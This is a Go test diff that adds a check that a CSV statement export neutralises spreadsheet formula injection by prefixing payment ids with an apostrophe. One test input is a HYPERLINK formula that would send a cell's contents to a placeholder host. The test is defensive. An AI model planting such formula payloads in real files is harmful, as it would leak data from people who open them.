@@ -6,6 +6,7 @@ import (
 	"encoding/csv"
 	"encoding/hex"
 	"errors"
+	"fmt"
 	"os"
 	"path/filepath"
 	"slices"
@@ -118,6 +119,45 @@ func TestExportCSV(t *testing.T) {
 		!strings.HasPrefix(got[4], "row,m-1,3,") || got[6] != "total,m-1,,,,debit,1,1" || got[8] != "total,m-1,,,,,3" || got[9] != "closing,m-1,,,,,,,99" ||
 		got[13] != "total,,,,,,3" || got[14] != "trailer,,,,,,3,,,,,,,,,,,,,1,"+sum.Trailer.SHA256 {
 		t.Fatalf("csv:\n%s", strings.Join(got, "\n"))
+	}
+}
+
+// A payment id a spreadsheet would read as a formula is written inert, with
+// a leading ' (CSV injection); the commas and quotes in it are quoted.
+func TestExportCSVInert(t *testing.T) {
+	e := newEnv(t)
+	e.seed(t, []string{"m-1"}, 1)
+	formula := `=HYPERLINK("http://example.test/?"&A1,"a, b")`
+	for i, pay := range []string{formula, "-2+3", "@SUM(A1)", "+1"} {
+		r := debit(fmt.Sprintf("x-%d", i), "m-1", 1)
+		r.PaymentID = pay
+		if err := e.store.Commit(t.Context(), []ledger.Row{r}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if _, err := e.db.SQL.Exec("UPDATE quota_ledger SET created_at = TIMESTAMPADD(HOUR, seq, ?) WHERE seq IS NOT NULL", base); err != nil {
+		t.Fatal(err)
+	}
+	sum, err := e.export(t.Context(), e.db.SQL, statement.Options{Period: hours(0, 10), Format: statement.FormatCSV})
+	if err != nil {
+		t.Fatal(err)
+	}
+	data, err := os.ReadFile(sum.Path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var pays []string
+	for _, r := range recs {
+		if r[0] == "row" && r[1] == "m-1" && strings.HasPrefix(r[4], "x-") {
+			pays = append(pays, r[10])
+		}
+	}
+	if want := []string{"'" + formula, "'-2+3", "'@SUM(A1)", "'+1"}; !slices.Equal(pays, want) {
+		t.Fatalf("payment ids %q, want %q", pays, want)
 	}
 }
 
